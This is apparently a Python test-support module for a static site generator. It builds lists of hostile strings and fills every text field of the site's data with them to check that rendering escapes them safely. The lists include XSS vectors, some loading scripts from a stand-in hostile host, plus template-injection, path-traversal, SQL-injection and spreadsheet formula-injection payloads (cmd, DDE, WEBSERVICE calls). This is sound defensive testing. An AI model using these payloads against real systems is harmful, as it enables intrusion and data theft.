# ruff: noqa: E501 - strings are easier to judge several a line
"""Hostile strings, and worlds of data that hold them in every text field, past all checks.

A string is *active* when it would run `h()` or load something, were it ever taken for markup,
an address or a formula. The checks refuse most of them; the worlds here go around the checks, to
see what the renderers make of text that nobody should have let in.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from typing import Any

from pydantic import BaseModel

import make
from subset.data.load import Data
from subset.geometry.layout_types import NARROW, WIDE, WIDEST_LABEL
from subset.verdicts.catalogue import Catalogue
from subset.verdicts.lives import CodedLife

_TAGS = (
    "<script>§</script>", "<ScRiPt>§</sCrIpT>", "<script src=//hostile.invalid/x.js></script>",
    "<img src=x onerror=§>", "<img/src=x/onerror=§>", "<svg onload=§>", "<svg/onload=§>",
    "<svg><script>§</script></svg>", "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:§'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=§>'/></svg>",
    "<svg><foreignObject><iframe onload=§></foreignObject></svg>",
    "<svg><style><img src=x onerror=§></style></svg>",
    "<math><mtext><img src=x onerror=§></mtext></math>", "<body onload=§>",
    "<iframe src='javascript:§'></iframe>", "<iframe srcdoc='<script>parent.§</script>'></iframe>",
    "<object data='javascript:§'></object>", "<embed src='javascript:§'>",
    "<details open ontoggle=§>x</details>", "<video><source onerror=§></video>",
    "<audio src=x onerror=§>", "<input autofocus onfocus=§>", "<select autofocus onfocus=§>",
    "<textarea autofocus onfocus=§>", "<marquee onstart=§>x</marquee>",
    "<form action='javascript:§'><button>x</button></form>", "<button formaction='javascript:§'>x",
    "<a href='javascript:§'>x</a>", "<a href='data:text/html,<script>§</script>'>x</a>",
    "<link rel=stylesheet href=//hostile.invalid/x.css>", "<style>@import '//hostile.invalid/x'</style>",
    "<meta http-equiv=refresh content='0;url=//hostile.invalid/'>", "<base href=//hostile.invalid/>",
    "<template><script>§</script></template>", "<noscript><img src=x onerror=§></noscript>",
    "<xmp><img src=x onerror=§></xmp>", "<plaintext>", "<!--<script>§</script>-->", "<!-- open",
    "<![CDATA[<script>§</script>]]>", "<?xml version='1.0'?><x/>", "<!DOCTYPE html>",
    "<table><td><img src=x onerror=§>", "<p onclick=§>x", "<div style='background:url(//hostile.invalid/x)'>",
    "<dialog open onclose=§>x", "<x contenteditable onblur=§>x", "<isindex type=image src=x onerror=§>",
)  # fmt: skip
_BREAKOUTS = (
    "</title><script>§</script>", "</script><script>§</script>", "</textarea><img src=x onerror=§>",
    "</style><img src=x onerror=§>", "</svg><img src=x onerror=§>", "</text></svg><script>§</script>",
    "--><img src=x onerror=§>", "]]><script>§</script>", "</p></div></article><script>§</script>",
    "</td></tr></table><script>§</script>", "</a><img src=x onerror=§>", "</head><body onload=§>",
    '"><script>§</script>', "'><script>§</script>", '" onmouseover=§ x="', "' onfocus=§ autofocus x='",
    "` onmouseover=§ x=`", '"/><svg onload=§>', '" autofocus onfocus=§ tabindex=1 x="',
    '"};§;//', "'};§;//", "\\\";§;//", "\\'-§-\\'", '"-§-"', "'+§+'", "${§}", "`${§}`",
    '"}]}</script><script>§</script>', '","url":"javascript:§","x":"', "\\u003cscript\\u003e§",
    "\\x3cscript\\x3e§", "\u2028§//", "\u2029§//", "*/§/*", "//\n§", "{§}</script>",
    "</SCRIPT ><script>§</script>", "<\\/script><script>§</script>", "<!--<script>",
)  # fmt: skip
_ENTITIES = (
    "&lt;script&gt;§&lt;/script&gt;", "&#60;script&#62;§", "&#x3c;script&#x3e;§", "&quot; onclick=§ x=&quot;",
    "&#34;&gt;&lt;img src=x onerror=§&gt;", "&amp;lt;script&amp;gt;§", "&apos;", "&nbsp;", "&", "&;", "&#0;",
    "&#xD800;", "&CounterClockwiseContourIntegral;", "&lt", "%3Cscript%3E§", "%22%3E%3Cscript%3E§",
    "\uff1cscript\uff1e§", "\u2039script\u203a§", "+ADw-script+AD4-§",
)  # fmt: skip
_SCHEMES = (
    "javascript:§", "JaVaScRiPt:§", " javascript:§", "java\tscript:§", "java\nscript:§", "\x01javascript:§",
    "javascript&colon;§", "javascript&#58;§", "vbscript:§", "data:text/html,<script>§</script>",
    "data:text/html;base64,PHNjcmlwdD5oKCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=§>",
    "//hostile.invalid/x", "https://hostile.invalid/", "http://hostile.invalid/", "\\\\hostile.invalid\\x",
    "file:///etc/passwd", "blob:x", "filesystem:x", "view-source:x", "../../../../etc/passwd", "..\\..\\x",
    "%2e%2e/%2e%2e/x", "C:\\x", "x.html#a", "?x=1", "#x",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{# comment #}", "{{ config }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{ ''.__class__.__mro__ }}", "{{ page.meta }}", "{% raw %}", "{% endraw %}",
    "[[7*7]]", "@(7*7)", "$(touch x)", "`touch x`", "%s%s%n", "{0}", "{x!r}", "<!-- subset: platforms-table -->",
    '<div data-subset="diagram"></div>', "stenciltitle7q", "stencilbody7q", "stencildesc7q", "stencilslug7q", "stencilitems7q",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:§)", "![x](x)", "![x](x\"onerror=§)", "[x]: javascript:§", "<javascript:§>", "**x**", "__x__",
    "*x*", "# x", "## x", "> x", "- x", "1. x", "```html\n<script>§</script>\n```", "~~~", "    code", "---", "***",
    "| a | b |", "[^1]", "[^1]: x", "*[HTML]: <script>§</script>", ":smile:", "!!! note", "=== x", "{: onclick=§ }",
    "x { #id onclick=§ }", "$$x$$", "[TOC]", "\\<script>§", "a  \nb", "<details markdown=1>",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://hostile.invalid/\",\"x\")", "=WEBSERVICE(\"https://hostile.invalid/\")",
    "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
    "=IMPORTXML(CONCAT(\"https://hostile.invalid/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "a;=1+1", "a; =1+1", "a\t=1+1",
    "a\n=1+1", "\",=1+1,\"", "\"\n=1+1\n\"", "';=1+1;'", "=\"\"&1", "|calc", "%0A=1+1", "-2+3+cmd|' /C calc'!D2", "@x",
)  # fmt: skip
_TEXTS = (
    "\u202etxt.exe", "\u202d\u202e", "\u2066x\u2069", "\u200b", "\u200d", "\u2060", "\ufeffx", "\u00ad", "\u061c", "\u180e",
    "\x00", "a\x00b", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1b]0;x\x07", "\x7f", "\x85", "\x9b", "\ufffd", "\ufffe", "\uffff",
    "\ue000", "\U000e0041", "\U0010ffff", "e\u0301\u0301\u0301", "\u0430pple", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "ﷺ", "ß", "İ", "ı",
    "\\", "\\\\", "\\n", "\"", "'", "\"\"", "''", "`", "a\"b'c`d", "%", "%00", "%n", "$", "{", "}", "{}", "}{", "{{{{", "}}", "[", "]", "]]",
    "<", ">", "<>", "><", "</", "/>", "<a", "<a <b", "a<b>c", "@", "#", "~", "^", "_", "|", "||", ";", "--", "; DROP TABLE x", "' OR 1=1 --",
    "null", "true", "NaN", "Infinity", "undefined", "None", "__proto__", "constructor", "-1", "0", "1e309", "0x10", "1/2", "01-02", "x\ty",
    "CON", "aux.txt", "a/b", ".", "..", ".htaccess", "-rf", "--help", "x" * 300, "\u00e4" * 150, "a " * 150, "}\n@article{x,", "\\input{x}", "%}}",
    "\" .\n<x> <y> <z>", "\"@en ; <x> \"", "<http://hostile.invalid/>", "@prefix x: <y> .", "</summary></entry><entry>", "]]>", "<?x?>",
)  # fmt: skip

GROUPS: Mapping[str, tuple[str, ...]] = {
    "tags": _TAGS, "breakouts": _BREAKOUTS, "entities": _ENTITIES, "schemes": _SCHEMES, "templates": _TEMPLATES,
    "Markdown": _MARKDOWN, "formulas": _FORMULAS, "text": _TEXTS,
}  # fmt: skip
# "§" is the place of the call that would show that a string was run.
STRINGS = tuple(dict.fromkeys(p.replace("§", "h()") for ps in GROUPS.values() for p in ps))
ACTIVE = tuple(
    s for s in STRINGS if re.search(r"<[a-z/!?][^>]*>?.*(h\(\)|hostile\.invalid)", s, re.I | re.S)
)


# What XML cannot hold; the proof of the drawing refuses it, and so does the reader of the data.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_DRAWN = tuple(s for s in STRINGS if not _NOT_XML.search(s))


def _widest(text: str) -> float:
    return max(size.pill_width(text) for size in (NARROW, WIDE))


# The diagram refuses names and headings that are too wide for it, and file systems refuse names of
# redirects that are too long; these are not.
NARROW_ENOUGH = {
    "Platform.aliases": tuple(s for s in STRINGS if len(s) <= 60),
    "Platform.name": tuple(s for s in _DRAWN if _widest(s) <= WIDEST_LABEL),
    "RuleClass.label": tuple(s for s in _DRAWN if _widest(s) <= WIDEST_LABEL * 0.7),
}
_KEYS = frozenset(("Term.criterion",))  # not text: the id of a criterion, checked elsewhere


@cache
def text_fields(model: type[BaseModel]) -> tuple[str, ...]:
    """The names of a model's own fields that hold free text, alone or in a list."""
    return tuple(_text_fields(model))


def _text_fields(model: type[BaseModel]) -> Iterator[str]:
    schema = model.model_json_schema(by_alias=False)
    for name, field in schema.get("properties", {}).items():
        options = [field, *field.get("anyOf", ()), field.get("items", {})]
        if f"{model.__name__}.{name}" in _KEYS:
            continue
        if any(
            o.get("type") == "string" and not {"pattern", "enum", "const"} & set(o) for o in options
        ) and not any("pattern" in o for o in options):
            yield name


Choose = Callable[[str], str]  # "Platform.name" -> the text for it


def poisoned(value: Any, choose: Choose) -> Any:
    """A copy of a model with every text field replaced, whatever the model allows."""
    if isinstance(value, BaseModel):
        texts = text_fields(type(value))
        changes = {}
        for name in type(value).model_fields:
            old = getattr(value, name)
            where = f"{type(value).__name__}.{name}"
            if name in texts and old is not None:
                changes[name] = (
                    tuple(choose(where) for _ in old) if isinstance(old, tuple) else choose(where)
                )
            else:
                changes[name] = poisoned(old, choose)
        return value.model_copy(update=changes)
    if isinstance(value, tuple):
        return tuple(poisoned(item, choose) for item in value)
    if isinstance(value, dict):
        return {key: poisoned(item, choose) for key, item in value.items()}
    return value


JOINED = 5


def in_turn(start: int = 0, joined: int = JOINED) -> Choose:
    """Gives each field the strings one after the other, several at a time where they fit."""
    turns: dict[str, int] = {}

    def choose(where: str) -> str:
        turn = turns[where] = turns.get(where, start - 1) + 1
        if where in NARROW_ENOUGH:
            fitting = NARROW_ENOUGH[where]
            return fitting[turn % len(fitting)]
        return " ".join(STRINGS[(turn * joined + i) % len(STRINGS)] for i in range(joined))

    return choose


def drawable(choose: Choose) -> Choose:
    """The same, without the characters that XML cannot hold (no file of data can have them)."""
    return lambda where: _NOT_XML.sub("", choose(where))


def harmless(where: str) -> str:
    """A text that no rule and no place gives a meaning to."""
    return "zq" if where not in NARROW_ENOUGH else f"zq {where[0]}"


def many(tree: make.Tree, platforms: int, definitions: int) -> Data:
    """The small world with more platforms and definitions, and with every optional field."""
    full = tree.text(make.ALPHA)
    for old, new in (
        ("status: active", "status: closed\nended:\n  2012:\n    - {source: alpha-help, quote: It closed in 2012.}"),
        ("quote: online as yes.", "quote: online as yes., locator: page one, about: 2005, note: It said so."),
        ("    publisher:", "    author: A. Writer\n    published: 2010\n    publisher:"),
    ):  # fmt: skip
        assert old in full
        full = full.replace(old, new)
    full = full.replace("summary:", "part: Its pages.\nremark: It is told otherwise.\nsummary:", 1)
    full = full.replace(
        "quote: It opened in 2004.", "quote: It opened in 2004., note: So it says.", 1
    )
    rival = tree.text(make.RIVAL).replace("verified:", "locator: page one\n  verified:", 1)
    rival = rival.replace("fits: true,", "fits: true, locator: page two,", 1)
    for name, text in (("id: rival\n", "id: rival-0\n"), ("Rival and", "Rivals and")):
        rival = rival.replace(name, text, 1)
    tree.write("definitions/rival-0.yml", rival)
    without = rival.replace("rival-0\n", "rival-1\n", 1).replace("Rivals and", "No rivals and", 1)
    start, end = without.index("classes:"), without.index("reading:")
    tree.write("definitions/rival-1.yml",
               f"{without[:start]}not_codable: It says nothing that can be asked.\n{without[end:]}")  # fmt: skip
    for i in range(platforms):
        text = full.replace("id: alpha", f"id: alpha-{i}").replace(
            "Alfa, Älpha One", f"Alfa {i}, Alba {i}, Alma {i}"
        )
        tree.write(f"platforms/alpha-{i}.yml", text.replace("name: Alpha\n", f"name: Alpha {i}\n"))
    for i in range(definitions):
        guide = tree.text(make.GUIDE).replace("id: guide\n", f"id: guide-{i}\n")
        guide = guide.replace("name: This guide", f"name: This guide {i}")
        tree.write(f"definitions/guide-{i}.yml", guide)
    for path in sorted(tree.path("terms").glob("*.yml")):
        text = path.read_text("utf-8")
        source = text.partition("{source: ")[2].partition(",")[0]
        senses = f"senses:\n  - {{text: Another sense., source: {source}, locator: page three}}\n"
        text = text.replace("evidence:", f"forms: [{path.stem} forms, {path.stem} more]\nevidence:")
        path.write_text(text.replace("related:", f"{senses}related:"), "utf-8")
    return tree.data()


def poisoned_data(data: Data, choose: Choose) -> Data:
    """Data in which every text of every entry and of the code-book is replaced."""
    return dataclasses.replace(
        data,
        codebook=poisoned(data.codebook, choose),
        platforms=poisoned(data.platforms, choose),
        definitions=poisoned(data.definitions, choose),
        terms=poisoned(data.terms, choose),
    )


def poisoned_site(made: Catalogue, choose: Choose) -> Catalogue:
    """The site of poisoned data. Text decides nothing, so what was computed is taken over."""
    data = poisoned_data(made.data, choose)
    entries = (
        dataclasses.replace(entry, coded=coded, coding=coded.in_year(entry.as_of))
        for entry in made.entries
        for coded in [CodedLife(data.platforms[entry.id], data.codebook)]
    )
    return dataclasses.replace(
        made,
        data=data,
        definitions={
            id_: dataclasses.replace(r, definition=data.definitions[id_])
            for id_, r in made.definitions.items()
        },
        entries=tuple(sorted(entries, key=lambda e: (e.name.casefold(), e.id))),
    )
